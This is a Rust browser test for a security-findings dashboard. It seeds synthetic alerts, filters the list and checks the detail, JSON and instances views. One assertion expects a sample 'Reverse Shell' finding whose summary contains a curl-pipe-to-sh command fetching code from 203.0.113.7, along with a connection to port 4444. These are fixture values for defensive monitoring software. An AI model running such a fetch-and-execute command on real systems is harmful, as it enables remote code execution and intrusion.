//! The web UI in a real browser: headless Chromium (Debian `chromium`) driven over WebDriver by
//! `chromedriver` (Debian `chromium-driver`). Loads the findings list, filters it through the form,
//! checks the list changed, opens a finding, reads its Summary and switches to the JSON tab.
//! Under CI the browser must be there; run by hand without it, the test says loudly that it skipped.

mod common;

use common::browser::Browser;
use common::*;
use serde_json::{json, Value};

#[test]
fn list_filter_and_open_a_finding() {
    let Some(browser) = Browser::start() else { return };
    let db = sqlite();
    let c = collector_on(db);
    let shell = finding("Reverse Shell", "CRITICAL", "api", "i-1", "2026-11-20T10:00:00Z");
    let others = [
        finding("Added Binary Executed", "LOW", "api", "i-1", "2026-11-20T10:01:00Z"),
        finding(
            "Execution: Program Run from Temporary Directory",
            "MEDIUM",
            "worker",
            "i-2",
            "2026-11-20T10:02:00Z",
        ),
        finding("Added Binary Executed", "LOW", "worker", "i-2", "2026-11-20T10:03:00Z"),
    ];
    let mut all = vec![shell.clone()];
    all.extend(others);
    let beat = heartbeat(Some("i-1"), "api", 60, false);
    assert_eq!(post_json(&c, &json!({ "findings": all, "heartbeat": beat }), None).0, 200);

    browser.goto(&c.url("/"));
    assert!(browser.url().ends_with("/findings"), "{}", browser.url());
    assert_eq!(browser.find_all("#findings a.finding").len(), 4);
    assert_eq!(browser.text("#total"), "4");

    // Filter through the form: severity CRITICAL (the first option after "any"), then submit.
    browser.click("#f-severity option:nth-child(2)");
    browser.click("#apply");
    let url = browser.wait_url(|u| u.contains("severity=CRITICAL"));
    assert!(url.contains("severity=CRITICAL"), "{url}");
    let rows = browser.find_all("#findings a.finding");
    assert_eq!(rows.len(), 1, "the filtered list");
    assert_eq!(browser.text("#total"), "1");
    assert_eq!(browser.text("#findings a.finding"), "Reverse Shell");

    // Open it: the Summary tab first.
    browser.click("#findings a.finding");
    let id = shell["findingId"].as_str().unwrap();
    let url = browser.wait_url(|u| u.ends_with(&format!("/findings/{id}")));
    assert!(url.ends_with(&format!("/findings/{id}")), "{url}");
    let summary = browser.text("#summary");
    assert!(
        summary.contains("Reverse Shell: /bin/sh -c 'curl http://203.0.113.7/x | sh' in api"),
        "{summary}"
    );
    assert!(browser.text("#process-tree").contains("/usr/bin/python3.11: python3 app.py"));
    assert!(browser.text("#connections").contains("203.0.113.7:4444"));
    assert!(browser.text("#script").contains("uname -a"));
    assert!(browser.text("#virustotal").starts_with("https://www.virustotal.com/gui/file/aaaa"));
    assert!(browser.find_all("#json-body").is_empty());

    // Switch to the JSON tab: the finding as received.
    browser.click("#tab-json");
    let url = browser.wait_url(|u| u.ends_with("?tab=json"));
    assert!(url.ends_with("?tab=json"), "{url}");
    let shown: Value = serde_json::from_str(&browser.text("#json-body")).expect("the JSON tab shows JSON");
    assert_eq!(shown, shell);
    assert!(browser.find_all("#summary").is_empty());

    // The instances page: the one heartbeat sent, live.
    browser.click("header a[href='/instances']");
    browser.wait_url(|u| u.ends_with("/instances"));
    assert_eq!(browser.find_all("#instances tr.instance-live").len(), 1);
    assert!(browser.text("#instances tr.instance-live").contains("i-1"));
}
